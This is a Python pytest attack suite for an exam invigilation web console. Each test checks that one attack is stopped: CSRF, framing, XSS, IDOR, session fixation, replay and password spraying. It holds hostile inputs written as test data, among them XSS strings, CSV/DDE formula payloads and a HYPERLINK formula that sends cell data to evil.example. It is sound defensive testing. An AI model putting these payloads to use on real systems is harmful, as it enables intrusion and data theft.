"""Attack set of the invigilation console: each test is one attack and passes only when
the attack is stopped. Real HTTP against a real server; headless Chromium where the
browser is the one deciding (cross-site forms, framing, script in names).

Every test carries ``@pytest.mark.attack("<category>")``; benchmarks/console_attacks.py
runs this file and prints, per category, how many attacks were stopped.

One server serves the whole module (logins cost an argon2 hash each); the attacks that
need their own throttle state use their own accounts, and the one that moves the clock
runs last in its category and touches no login window of another test.
"""

from __future__ import annotations

import concurrent.futures
import csv
import io
import re
import shutil
from collections.abc import Iterator
from typing import Any

import pytest
import requests
from console_helpers import ConsoleClient, candidate_login, console_login
from headless_chromium import CHROMIUM, CHROMIUM_ARGS, needs_chromium
from sqlalchemy import select

from server import schema as t
from server import staff_throttle as throttle
from server.console import tables as ct
from server.console.accounts import create_account
from server.console.roles import Role
from server.console.seating import SeatRow, assign
from server.demo import DEMO_CANDIDATES, DEMO_CENTER_ID
from server.testing import LiveServer, live_server

ZHANG, LI, CHEN = DEMO_CANDIDATES
OTHER_CENTER = "C-OTHER"
ROOM2 = "第2考场"
PASSWORD = "attack-pass-1"
# A name a registration form let through: markup, an inline script and a formula.
XSS_NAME = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>张三'
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"李四")'


def _no_exam_login(srv: LiveServer, username: str, password: str) -> ConsoleClient:
    """Log in an account whose scope holds no exam (its page has only the header's
    logout form, which carries the CSRF token)."""
    http = requests.Session()
    response = http.post(f"{srv.url}/console/login", timeout=30,
                         data={"username": username, "password": password})
    match = re.search(r'name="csrf" value="([0-9a-f]{64})"', response.text)
    assert response.status_code == 200 and match, response.text[:300]
    return ConsoleClient(srv=srv, http=http, csrf=match.group(1))


def attack(category: str) -> pytest.MarkDecorator:
    return pytest.mark.attack(category)


class World:
    """The demo center (room 1: 张三, 李四; room 2: 陈大文) plus a second center."""

    def __init__(self, srv: LiveServer) -> None:
        self.srv = srv
        self.url = srv.url
        now = srv.clock.now_ms()
        assign(srv.db, exam_id=srv.demo.exam_id,
               rows=[SeatRow(candidate=CHEN.student_no, room=ROOM2, seat="1")])
        srv.db.upsert_center(center_id=OTHER_CENTER, name="另一考点", allowed_ips=[])
        for username, role, center, room in (
                ("room2", Role.PROCTOR, DEMO_CENTER_ID, ROOM2),
                ("chief2", Role.CHIEF, OTHER_CENTER, None),
                ("victim1", Role.PROCTOR, DEMO_CENTER_ID, "第1考场"),
                ("victim2", Role.PROCTOR, DEMO_CENTER_ID, "第1考场"),
                ("victim3", Role.PROCTOR, DEMO_CENTER_ID, "第1考场"),
                ("victim4", Role.PROCTOR, DEMO_CENTER_ID, "第1考场")):
            create_account(srv.db, username=username, display_name=username, role=role,
                           center_id=center, room=room, password=PASSWORD, now_ms=now)
        self.proctor = console_login(srv, "jiankao")
        self.chief = console_login(srv, "zhukao")
        self.room2 = console_login(srv, "room2", PASSWORD)
        self.chief2 = _no_exam_login(srv, "chief2", PASSWORD)
        ids = {tile["student_no"]: tile["candidate_id"] for tile in self.chief.tiles()}
        self.zhang, self.li, self.chen = ids[ZHANG.student_no], ids[LI.student_no], \
            ids[CHEN.student_no]
        srv.db.update_candidate(self.zhang, name=XSS_NAME)
        srv.db.update_candidate(self.li, name=FORMULA_NAME)

    def attendance(self, candidate_id: int) -> Any:
        return next(tile["attendance"] for tile in self.chief.tiles()
                    if tile["candidate_id"] == candidate_id)

    def audit_rows(self, **where: Any) -> list[Any]:
        query = select(ct.audit)
        for column, value in where.items():
            query = query.where(ct.audit.c[column] == value)
        with self.srv.db.read() as conn:
            return list(conn.execute(query).all())


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with live_server(tmp_path_factory.mktemp("attack-server"), start_in_s=600,
                     duration_s=3600) as srv:
        yield World(srv)


def _login(url: str, username: str, password: str, **headers: str) -> requests.Response:
    return requests.post(f"{url}/console/login", timeout=30, allow_redirects=False,
                         data={"username": username, "password": password}, headers=headers)


# -- scope: a proctor or chief reaching another room or center --------------------------

@attack("scope")
def test_proctor_cannot_list_another_room(world: World) -> None:
    assert world.proctor.tiles(center=DEMO_CENTER_ID, room=ROOM2) == []
    assert {t["candidate_id"] for t in world.proctor.tiles()} == {world.zhang, world.li}


@attack("scope")
def test_proctor_cannot_act_on_another_room(world: World) -> None:
    refused = world.proctor.act("mark_absent", world.chen, reason="x")
    assert refused.status_code == 404
    assert world.attendance(world.chen) is None


@attack("scope")
def test_proctor_cannot_slip_another_rooms_seat_into_a_group(world: World) -> None:
    """Extra time or a message for 'the room' with another room's seat added: refused
    whole, nothing granted or sent to anyone."""
    for body in ({"action": "extra_time", "minutes": 30, "reason": "补时"},
                 {"action": "message", "text": "越权消息"}):
        refused = world.proctor.http.post(
            f"{world.url}/console/api/action", timeout=10,
            headers={"X-CSRF-Token": world.proctor.csrf},
            json={**body, "exam_id": world.srv.demo.exam_id,
                  "candidate_ids": [world.zhang, world.li, world.chen]})
        assert refused.status_code == 404
    tiles = {t["candidate_id"]: t for t in world.chief.tiles()}
    assert all(tiles[c]["extra_ms"] == 0 for c in (world.zhang, world.li, world.chen))
    assert all("越权消息" not in [m["text"] for m in tiles[c]["messages"]]
               for c in (world.zhang, world.li, world.chen))


@attack("scope")
def test_proctor_cannot_take_a_chief_decision(world: World) -> None:
    refused = world.proctor.act("issue_code", world.zhang, reason="换机")
    assert refused.status_code == 403 and "code" not in refused.json()
    assert world.proctor.http.get(f"{world.url}/console/audit.csv",
                                  timeout=10).status_code == 403


@attack("scope")
def test_chief_of_another_center_sees_no_exam_and_no_seat(world: World) -> None:
    assert world.chief2.room().status_code == 404
    page = world.chief2.http.get(f"{world.url}/console", timeout=10).text
    assert 'id="no-exam"' in page and ZHANG.student_no not in page


@attack("scope")
def test_chief_of_another_center_cannot_act_or_issue_a_code(world: World) -> None:
    for action in ("issue_code", "reset_password", "end_attempt", "mark_absent"):
        refused = world.chief2.act(action, world.zhang, reason="越权")
        assert refused.status_code == 404, (action, refused.text)
        assert "code" not in refused.json()


@attack("scope")
def test_audit_of_another_room_or_center_stays_hidden(world: World) -> None:
    assert world.chief.act("incident", world.chen, category="other",
                           reason="第二考场秘密记录").status_code == 200
    assert "第二考场秘密记录" not in world.proctor.http.get(
        f"{world.url}/console/audit", timeout=10).text
    assert "第二考场秘密记录" not in world.chief2.http.get(
        f"{world.url}/console/audit", timeout=10).text
    assert "第二考场秘密记录" in world.room2.http.get(
        f"{world.url}/console/audit", timeout=10).text


@attack("scope")
def test_request_body_cannot_choose_the_actor(world: World) -> None:
    before = len(world.audit_rows(action="incident"))
    response = world.proctor.http.post(
        f"{world.url}/console/api/action", timeout=10,
        headers={"X-CSRF-Token": world.proctor.csrf},
        json={"action": "incident", "exam_id": world.srv.demo.exam_id,
              "candidate_id": world.zhang, "reason": "冒名", "category": "other",
              "actor": "zhukao", "role": "admin", "center_id": OTHER_CENTER})
    assert response.status_code == 200
    rows = world.audit_rows(action="incident")
    assert len(rows) == before + 1
    assert (rows[-1].actor, rows[-1].role, rows[-1].center_id) == (
        "jiankao", "proctor", DEMO_CENTER_ID)


# -- a candidate on the LAN with a valid candidate token ---------------------------------

@pytest.fixture(scope="module")
def candidate_token(world: World) -> str:
    response = candidate_login(world.srv, CHEN, client_id="pc-attacker")
    assert response.status_code == 200, response.text
    return str(response.json()["token"])


@attack("candidate")
def test_candidate_bearer_token_opens_no_console_route(world: World,
                                                       candidate_token: str) -> None:
    bearer = {"Authorization": f"Bearer {candidate_token}"}
    exam = world.srv.demo.exam_id
    assert requests.get(f"{world.url}/console/api/room", params={"exam": exam},
                        headers=bearer, timeout=10).status_code == 401
    assert requests.get(f"{world.url}/console/photo/{exam}/{world.chen}", headers=bearer,
                        timeout=10).status_code == 404
    assert requests.post(f"{world.url}/console/api/action", headers=bearer, timeout=10,
                         json={"action": "mark_present", "exam_id": exam,
                               "candidate_id": world.chen}).status_code == 401


@attack("candidate")
def test_candidate_cannot_give_themselves_time_or_a_pause(world: World,
                                                          candidate_token: str) -> None:
    """The end reaches a PC only from the server's answers: a candidate's own request
    naming an end, extra time or a pause changes nothing, nor does a console action
    carried by the candidate's token."""
    bearer = {"Authorization": f"Bearer {candidate_token}"}
    exam = world.srv.demo.exam_id
    for action in ({"action": "extra_time", "minutes": 600}, {"action": "pause"}):
        assert requests.post(f"{world.url}/console/api/action", headers=bearer, timeout=10,
                             json={**action, "exam_id": exam, "candidate_id": world.chen,
                                   "reason": "自己加时"}).status_code == 401
    beat = requests.post(f"{world.url}/api/v1/attempt/heartbeat", headers=bearer, timeout=10,
                         json={"end_ms": 2**52, "extra_ms": 10**9, "paused": True,
                               "paused_since_ms": 0})
    assert beat.status_code == 200
    assert (beat.json()["end_ms"], beat.json()["paused"]) == (world.srv.demo.end_ms, False)
    with world.srv.db.read() as conn:
        assert conn.execute(select(t.attempt_times)
                            .where(t.attempt_times.c.candidate_id == world.chen)).all() == []


@attack("candidate")
def test_candidate_cannot_mark_another_seats_message_read(world: World,
                                                           candidate_token: str) -> None:
    """messages_read names ids; a PC acknowledges only its own candidate's messages."""
    sent = world.proctor.act("message", world.zhang, reason="", text="请出示准考证")
    assert sent.status_code == 200
    requests.post(f"{world.url}/api/v1/attempt/heartbeat", timeout=10,
                  headers={"Authorization": f"Bearer {candidate_token}"},
                  json={"messages_seen": 2**50, "messages_read": 2**50}).raise_for_status()
    message = next(t for t in world.chief.tiles()
                   if t["candidate_id"] == world.zhang)["messages"][0]
    assert (message["delivered_at_ms"], message["read_at_ms"]) == (None, None)


@attack("candidate")
def test_candidate_token_as_console_cookie_is_no_session(world: World,
                                                         candidate_token: str) -> None:
    cookies = {"exam_console": candidate_token}
    assert requests.get(f"{world.url}/console/api/room", cookies=cookies, timeout=10,
                        params={"exam": world.srv.demo.exam_id}).status_code == 401
    assert requests.get(f"{world.url}/console/audit.csv", cookies=cookies, timeout=10,
                        allow_redirects=False).status_code == 303


@attack("candidate")
def test_candidate_number_and_password_do_not_open_the_console(world: World) -> None:
    response = _login(world.url, CHEN.student_no, CHEN.password)
    assert response.status_code in (401, 429)
    assert "exam_console" not in response.cookies


# -- CSRF, login CSRF and forged requests ------------------------------------------------

@attack("csrf")
def test_action_without_or_with_a_foreign_csrf_token_is_refused(world: World) -> None:
    assert world.proctor.act("mark_absent", world.zhang, csrf="").status_code == 403
    # A CSRF token is bound to its session: the chief's does not work with the proctor's.
    assert world.proctor.act("mark_absent", world.zhang,
                             csrf=world.chief.csrf).status_code == 403
    assert world.attendance(world.zhang) is None


@attack("csrf")
def test_login_post_from_another_site_is_refused(world: World) -> None:
    """Login CSRF: another page must not log the proctor's browser into its account."""
    response = _login(world.url, "room2", PASSWORD, Origin="http://evil.example")
    assert response.status_code == 403
    assert "exam_console" not in response.cookies
    same_site = _login(world.url, "room2", PASSWORD, Origin=world.url)
    assert same_site.status_code == 303 and "exam_console" in same_site.cookies


@attack("csrf")
def test_action_post_from_another_origin_is_refused(world: World) -> None:
    # Even with the token (say, leaked by a screenshot) a request from another site is out.
    response = world.proctor.http.post(
        f"{world.url}/console/api/action", timeout=10,
        headers={"X-CSRF-Token": world.proctor.csrf, "Origin": "http://evil.example"},
        json={"action": "mark_absent", "exam_id": world.srv.demo.exam_id,
              "candidate_id": world.zhang, "reason": "x"})
    assert response.status_code == 403
    assert world.attendance(world.zhang) is None


# -- the browser: cross-site forms, framing, script in names -----------------------------

EVIL = "http://evil.example"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    if shutil.which(CHROMIUM) is None:
        pytest.skip("needs Debian's chromium")
    playwright_api = pytest.importorskip("playwright.sync_api")
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield browser
        finally:
            browser.close()


def _chief_browser(chromium: Any, world: World) -> Any:
    """A fresh browser profile with the chief examiner logged in."""
    page = chromium.new_context(locale="zh-CN").new_page()
    page.goto(f"{world.url}/console/login")
    page.fill("#username", "zhukao")
    page.fill("#password", "kaowu2026")
    page.click("#login")
    page.wait_for_url("**/console")
    page.wait_for_selector(".tile")
    return page


@pytest.fixture(scope="module")
def chief_page(chromium: Any, world: World) -> Iterator[Any]:
    """The chief examiner's browser, logged in; *EVIL* is served by the test itself."""
    page = _chief_browser(chromium, world)
    yield page
    page.context.close()


def _serve_evil(page: Any, html: str) -> None:
    page.context.route(f"{EVIL}/**", lambda route: route.fulfill(
        status=200, content_type="text/html; charset=utf-8", body=html))


@needs_chromium
@attack("browser")
def test_cross_site_form_cannot_act_in_the_chiefs_browser(world: World,
                                                          chief_page: Any) -> None:
    exam = world.srv.demo.exam_id
    # text/plain form: the body reads as JSON, the classic trick against JSON endpoints.
    name = ('{"action":"mark_absent","exam_id":"' + exam + '","candidate_id":'
            + str(world.chen) + ',"reason":"csrf","x":"')
    _serve_evil(chief_page, f"""<html><body>
<form id="f" method="post" enctype="text/plain" action="{world.url}/console/api/action">
<input name='{name}' value='"}}'></form>
<form id="g" method="post" action="{world.url}/console/logout"></form>
<script>document.getElementById("f").submit();</script></body></html>""")
    chief_page.goto(f"{EVIL}/csrf")
    chief_page.wait_for_load_state()
    assert world.attendance(world.chen) is None
    # The chief is still logged in (a cross-site logout did nothing either).
    chief_page.goto(f"{world.url}/console")
    chief_page.wait_for_selector(".tile")


@needs_chromium
@attack("browser")
def test_cross_site_login_form_cannot_swap_the_chiefs_session(world: World,
                                                              chromium: Any) -> None:
    chief_page = _chief_browser(chromium, world)  # its own: a swapped session stays here
    _serve_evil(chief_page, f"""<html><body>
<form id="f" method="post" action="{world.url}/console/login">
<input name="username" value="room2"><input name="password" value="{PASSWORD}"></form>
<script>document.getElementById("f").submit();</script></body></html>""")
    chief_page.goto(f"{EVIL}/login-csrf")
    chief_page.wait_for_load_state()
    chief_page.goto(f"{world.url}/console")
    chief_page.wait_for_selector("#who")
    who = chief_page.inner_text("#who")
    chief_page.context.close()
    assert "主考" in who, who


@needs_chromium
@attack("browser")
def test_console_cannot_be_framed(world: World, chief_page: Any) -> None:
    _serve_evil(chief_page, f"""<html><body>
<iframe id="victim" src="{world.url}/console" width="800" height="600"></iframe>
</body></html>""")
    chief_page.goto(f"{EVIL}/frame")
    chief_page.wait_for_timeout(500)
    frames = [f for f in chief_page.frames if f != chief_page.main_frame]
    assert frames
    for frame in frames:
        assert "/console" not in frame.url or frame.url.startswith("chrome-error")
        try:
            assert frame.query_selector(".tile, #username") is None
        except playwright_error():
            pass  # the blocked frame has no document to read: also stopped


def playwright_error() -> type[Exception]:
    from playwright.sync_api import Error

    return Error


@needs_chromium
@attack("xss")
def test_markup_in_names_stays_text_in_tiles_and_detail(world: World,
                                                        chief_page: Any) -> None:
    chief_page.goto(f"{world.url}/console")
    tile = chief_page.locator(f'.tile[data-candidate="{world.zhang}"]')
    tile.wait_for()
    assert XSS_NAME in tile.inner_text()
    tile.click()
    chief_page.wait_for_selector("#detail h2")
    assert XSS_NAME in chief_page.inner_text("#detail h2")
    chief_page.wait_for_timeout(300)
    assert chief_page.evaluate("window.__xss") is None
    assert chief_page.locator("#tiles img, #detail h2 img, script:not([src])").count() == 0


@needs_chromium
@attack("xss")
def test_markup_in_names_and_reasons_stays_text_on_the_audit_page(world: World,
                                                                  chief_page: Any) -> None:
    reason = '<script>window.__xss=3</script><b id="injected">x</b>'
    assert world.chief.act("incident", world.zhang, category="identity",
                           reason=reason).status_code == 200
    chief_page.goto(f"{world.url}/console/audit")
    chief_page.wait_for_selector("#audit")
    text = chief_page.inner_text("#audit")
    assert XSS_NAME in text and reason in text
    assert chief_page.evaluate("window.__xss") is None
    assert chief_page.locator("#injected").count() == 0


# -- the CSV export opened in Excel -------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@attack("xss")
def test_csv_export_neutralises_formulas(world: World) -> None:
    for reason in ('=cmd|" /C calc"!A0', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"):
        assert world.chief.act("incident", world.li, category="other",
                               reason=reason).status_code == 200
    exported = world.chief.http.get(f"{world.url}/console/audit.csv", timeout=10)
    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)  # the value is kept, as text
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == []


MESSAGE_MARKUP = '<img src=x onerror="window.__xss=4"><b id="msg-injected">请</b>'


@needs_chromium
@attack("xss")
def test_markup_in_a_message_stays_text_in_details_and_audit(world: World,
                                                             chief_page: Any) -> None:
    """A console message is shown back in the seat's details and on the audit page."""
    assert world.chief.act("message", world.zhang, reason="",
                           text=MESSAGE_MARKUP).status_code == 200
    chief_page.goto(f"{world.url}/console")
    tile = chief_page.locator(f'.tile[data-candidate="{world.zhang}"]')
    tile.wait_for()
    tile.click()
    chief_page.wait_for_selector("#detail .messages li")
    assert MESSAGE_MARKUP in chief_page.inner_text("#detail .messages")
    chief_page.goto(f"{world.url}/console/audit")
    chief_page.wait_for_selector("#audit")
    assert MESSAGE_MARKUP in chief_page.inner_text("#audit")
    chief_page.wait_for_timeout(300)
    assert chief_page.evaluate("window.__xss") is None
    assert chief_page.locator("#msg-injected").count() == 0


@attack("xss")
def test_csv_export_neutralises_a_formula_in_a_message(world: World) -> None:
    """The message text is the audit row's reason: a formula there is text in Excel."""
    text = '  =HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert world.chief.act("message", world.li, reason="", text=text).status_code == 200
    exported = world.chief.http.get(f"{world.url}/console/audit.csv", timeout=10)
    rows = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("evil.example" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)] == []


@attack("abuse")
def test_huge_message_is_refused_and_sends_nothing(world: World) -> None:
    before = len(world.audit_rows(action="message"))
    response = world.chief.act("message", world.chen, reason="", text="长" * 100_000)
    assert response.status_code in (400, 413, 422)
    assert len(world.audit_rows(action="message")) == before


# -- IDOR on the base photo ---------------------------------------------------------------

@attack("idor")
def test_photo_of_another_room_or_center_is_not_served(world: World) -> None:
    exam = world.srv.demo.exam_id
    for client, candidate in ((world.proctor, world.chen), (world.room2, world.zhang),
                              (world.chief2, world.zhang), (world.chief2, world.chen)):
        response = client.http.get(f"{world.url}/console/photo/{exam}/{candidate}",
                                   timeout=10)
        assert response.status_code == 404
        assert not response.headers.get("content-type", "").startswith("image/")


@attack("idor")
def test_photo_without_session_or_through_another_exam_is_not_served(world: World) -> None:
    exam = world.srv.demo.exam_id
    assert requests.get(f"{world.url}/console/photo/{exam}/{world.zhang}",
                        timeout=10).status_code == 404
    for path in (f"nope/{world.chen}", f"{exam}/999999", f"{exam}/-1",
                 f"..%2F{exam}/{world.chen}"):
        assert world.proctor.http.get(f"{world.url}/console/photo/{path}",
                                      timeout=10).status_code in (404, 422)


# -- replaying approvals ------------------------------------------------------------------

@pytest.fixture(scope="module")
def held_request(world: World) -> int:
    """李四 held on a second PC: a pending request the chief can act on."""
    assert candidate_login(world.srv, LI, client_id="pc-li-1").status_code == 200
    world.srv.clock.advance(ms=700_000)
    held = candidate_login(world.srv, LI, client_id="pc-li-2")
    assert held.status_code == 409, held.text
    return int(held.json()["detail"]["request_id"])


@attack("replay")
def test_foreign_request_id_cannot_be_approved_through_own_seat(world: World,
                                                                held_request: int) -> None:
    # room2's proctor cannot approve anyway; the chief of another center names a seat of
    # their own (none) - and the demo chief names 张三's seat with 李四's request.
    wrong_seat = world.chief.act("approve_login", world.zhang, request_id=held_request,
                                 reason="换机")
    assert wrong_seat.status_code == 409
    assert wrong_seat.json()["error"] == "console.no_such_request"
    other_center = world.chief2.act("approve_login", world.li, request_id=held_request,
                                    reason="换机")
    assert other_center.status_code == 404
    assert world.srv.db.get_login_request(held_request).status == "pending"


@attack("replay")
def test_concurrent_approvals_decide_a_request_once(world: World,
                                                    held_request: int) -> None:
    """Double-click, two tabs, or the chief and an admin at once: one decision, one record."""
    acts = [("approve_login", world.chief)] * 4 + [("refuse_login", world.chief)] * 4

    def go(pair: tuple[str, ConsoleClient]) -> int:
        action, client = pair
        return client.act(action, world.li, request_id=held_request,
                          reason="并发").status_code

    with concurrent.futures.ThreadPoolExecutor(len(acts)) as pool:
        codes = list(pool.map(go, acts))
    assert codes.count(200) == 1, codes
    decided = [r for r in world.audit_rows(candidate_id=world.li)
               if r.action in ("approve_login", "refuse_login")
               and r.detail.get("request_id") == held_request]
    assert len(decided) == 1
    status = world.srv.db.get_login_request(held_request).status
    assert status == {"approve_login": "approved", "refuse_login": "refused"}[
        decided[0].action]


@attack("replay")
def test_closed_request_cannot_be_replayed(world: World, held_request: int) -> None:
    for action in ("approve_login", "refuse_login"):
        again = world.chief.act(action, world.li, request_id=held_request, reason="重放")
        assert again.status_code == 409
        assert again.json()["error"] == "console.request_closed"
    assert world.chief.act("approve_login", world.li, request_id=10**9,
                           reason="重放").status_code == 409


# -- audit completeness -------------------------------------------------------------------

@attack("audit")
def test_every_accepted_action_leaves_exactly_one_audit_row(world: World) -> None:
    def taken() -> list[str]:
        return [r.action for r in world.audit_rows(actor="room2")
                if r.action != "action_refused"]

    before = len(taken())
    assert world.room2.act("mark_present", world.chen, reason="").status_code == 200
    assert world.room2.act("incident", world.chen, category="health",
                           reason="头晕").status_code == 200
    refused = world.room2.act("end_attempt", world.chen, reason="越权")
    assert refused.status_code == 403
    assert taken()[before:] == ["mark_present", "incident"]


@attack("audit")
def test_failed_logins_of_an_account_are_on_its_audit_trail(world: World) -> None:
    """A chief must be able to see that someone tried passwords on a proctor's account."""
    assert _login(world.url, "victim4", "wrong-guess").status_code == 401
    rows = world.audit_rows(actor="victim4", action="log_in_failed")
    assert len(rows) == 1 and rows[0].center_id == DEMO_CENTER_ID
    assert "127.0.0.1" in str(rows[0].detail)
    assert "log_in_failed" in world.chief.http.get(f"{world.url}/console/audit",
                                                   timeout=10).text or \
        "登录失败" in world.chief.http.get(f"{world.url}/console/audit", timeout=10).text


@attack("audit")
def test_out_of_scope_tries_are_on_the_actors_trail(world: World) -> None:
    """A proctor probing another room's seats, or a chief decision, leaves a record their
    chief examiner sees; the record names no candidate of the other room."""
    before = len(world.audit_rows(actor="jiankao", action="action_refused"))
    assert world.proctor.act("mark_absent", world.chen, reason="试探").status_code == 404
    assert world.proctor.act("reset_password", world.zhang, reason="试探").status_code == 403
    rows = world.audit_rows(actor="jiankao", action="action_refused")
    assert len(rows) == before + 2
    assert {r.detail["tried"] for r in rows[-2:]} == {"mark_absent", "reset_password"}
    assert all(r.room == "第1考场" and r.candidate_id is None for r in rows[-2:])
    assert "越权操作被拒绝" in world.chief.http.get(f"{world.url}/console/audit",
                                              timeout=10).text


@attack("audit")
def test_no_route_edits_or_deletes_audit_rows(world: World) -> None:
    for method in ("put", "delete", "patch"):
        response = world.chief.http.request(method, f"{world.url}/console/audit",
                                            headers={"X-CSRF-Token": world.chief.csrf},
                                            timeout=10)
        assert response.status_code in (404, 405)


# -- sessions: fixation, logout, changed accounts -----------------------------------------

@attack("session")
def test_session_fixation_a_planted_cookie_is_not_adopted(world: World) -> None:
    http = requests.Session()
    planted = "attacker-chose-this-token"
    http.cookies.set("exam_console", planted, path="/console")
    response = http.post(f"{world.url}/console/login", timeout=30, allow_redirects=False,
                         data={"username": "room2", "password": PASSWORD})
    issued = response.cookies.get("exam_console")
    assert issued and issued != planted
    assert requests.get(f"{world.url}/console/api/room", timeout=10,
                        cookies={"exam_console": planted},
                        params={"exam": world.srv.demo.exam_id}).status_code == 401
    cookie = response.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie


@attack("session")
def test_logged_out_session_cannot_be_replayed(world: World) -> None:
    client = console_login(world.srv, "room2", PASSWORD)
    token = client.http.cookies.get("exam_console")
    client.http.post(f"{world.url}/console/logout", data={"csrf": client.csrf}, timeout=10)
    assert requests.get(f"{world.url}/console/api/room", cookies={"exam_console": token},
                        params={"exam": world.srv.demo.exam_id}, timeout=10).status_code == 401


@attack("session")
def test_changed_password_ends_open_sessions(world: World) -> None:
    client = console_login(world.srv, "victim3", PASSWORD)
    assert client.room().status_code == 200
    create_account(world.srv.db, username="victim3", display_name="victim3",
                   role=Role.PROCTOR, center_id=DEMO_CENTER_ID, room="第1考场",
                   password="changed-pass", now_ms=world.srv.clock.now_ms())
    assert client.room().status_code == 401


# -- guessing passwords: accounts, addresses, workers, X-Forwarded-For --------------------

def _forget_addresses(db: Any) -> None:
    """Each guessing attack starts from a clean per-address count (one loopback address
    serves every attack here); the per-account counts stay."""
    with db.write() as conn:
        conn.execute(throttle.login_failures.delete().where(
            throttle.login_failures.c.key.like("addr:%")))


def _failures(world: World, key: str) -> int:
    with world.srv.db.read() as conn:
        return len(conn.execute(select(throttle.login_failures)
                                .where(throttle.login_failures.c.key == key)).all())


@attack("guessing")
def test_concurrent_guesses_get_no_more_than_the_limit(world: World) -> None:
    """Many guesses at once: each must be counted before the next is checked."""
    _forget_addresses(world.srv.db)
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        codes = list(pool.map(lambda i: _login(world.url, "victim1", f"guess-{i}").status_code,
                              range(12)))
    assert codes.count(401) <= throttle.MAX_FAILURES_PER_ACCOUNT, codes
    assert _login(world.url, "victim1", PASSWORD).status_code == 429


@attack("guessing")
def test_guesses_through_a_second_worker_share_the_count(world: World) -> None:
    """A second server process on the same database (a farm): one count for both."""
    _forget_addresses(world.srv.db)
    with live_server(world.srv.data_dir, demo=False) as second:
        for i in range(throttle.MAX_FAILURES_PER_ACCOUNT):
            target = world.url if i % 2 else second.url
            assert _login(target, "victim2", f"guess-{i}").status_code == 401
        assert _login(second.url, "victim2", PASSWORD).status_code == 429
        assert _login(world.url, "victim2", PASSWORD).status_code == 429


@attack("guessing")
def test_spraying_many_accounts_from_one_address_is_stopped(
        world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    # The per-address limit, small here so the test stays fast (the same code path).
    monkeypatch.setattr(throttle, "MAX_FAILURES_PER_ADDRESS", 3)
    _forget_addresses(world.srv.db)
    for name in ("spray-a", "spray-b", "spray-c"):
        assert _login(world.url, name, "123456").status_code == 401
    assert _login(world.url, "spray-d", "123456").status_code == 429
    assert _login(world.url, "room2", PASSWORD).status_code == 429


@attack("guessing")
def test_spoofed_forwarded_for_is_ignored_without_a_trusted_proxy(
        world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    assert not world.srv.context.settings.trust_proxy
    monkeypatch.setattr(throttle, "MAX_FAILURES_PER_ADDRESS", 2)
    _forget_addresses(world.srv.db)
    for i, name in enumerate(("xff-a", "xff-b", "xff-c")):
        response = _login(world.url, name, "123456", **{"X-Forwarded-For": f"10.9.9.{i}"})
        assert response.status_code == (401 if i < 2 else 429)
    assert _failures(world, "addr:10.9.9.0") == 0


@pytest.fixture(scope="module")
def proxied(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """A server configured as behind a reverse proxy (trust_proxy)."""
    with live_server(tmp_path_factory.mktemp("proxied"), trust_proxy=True) as srv:
        yield srv


@attack("guessing")
def test_spoofed_forwarded_for_entries_before_the_proxys_own_are_ignored(
        proxied: LiveServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(throttle, "MAX_FAILURES_PER_ADDRESS", 2)
    codes = []
    for i, name in enumerate(("pxy-a", "pxy-b", "pxy-c")):
        # The client rotates its own entries; the proxy appends the real address last.
        forwarded = f"203.0.113.{i}, 198.51.100.7"
        codes.append(_login(proxied.url, name, "123456",
                            **{"X-Forwarded-For": forwarded}).status_code)
    assert codes == [401, 401, 429]


def test_a_trusted_proxy_that_rewrites_host_still_passes_the_origin_check(
        proxied: LiveServer) -> None:
    """Not an attack: the browser's origin is the proxy's name (X-Forwarded-Host)."""
    response = _login(proxied.url, "zhukao", "kaowu2026", Origin="https://exam.example.cn",
                      **{"X-Forwarded-Host": "exam.example.cn",
                         "X-Forwarded-For": "198.51.100.8"})
    assert response.status_code == 303, response.text[:300]
    refused = _login(proxied.url, "zhukao", "kaowu2026", Origin="https://evil.example",
                     **{"X-Forwarded-Host": "exam.example.cn",
                        "X-Forwarded-For": "198.51.100.8"})
    assert refused.status_code == 403


@attack("guessing")
def test_username_variants_share_the_account_count(world: World) -> None:
    """'Victim1', ' victim1 ' and 'VICTIM1' are not fresh guesses at victim1 (locked by
    the concurrent-guess attack above, or locked here)."""
    _forget_addresses(world.srv.db)
    for i in range(throttle.MAX_FAILURES_PER_ACCOUNT):
        _login(world.url, "victim1", f"more-{i}")
    _forget_addresses(world.srv.db)
    for variant in ("VICTIM1", " victim1 ", "Victim1"):
        assert _login(world.url, variant, PASSWORD).status_code == 429
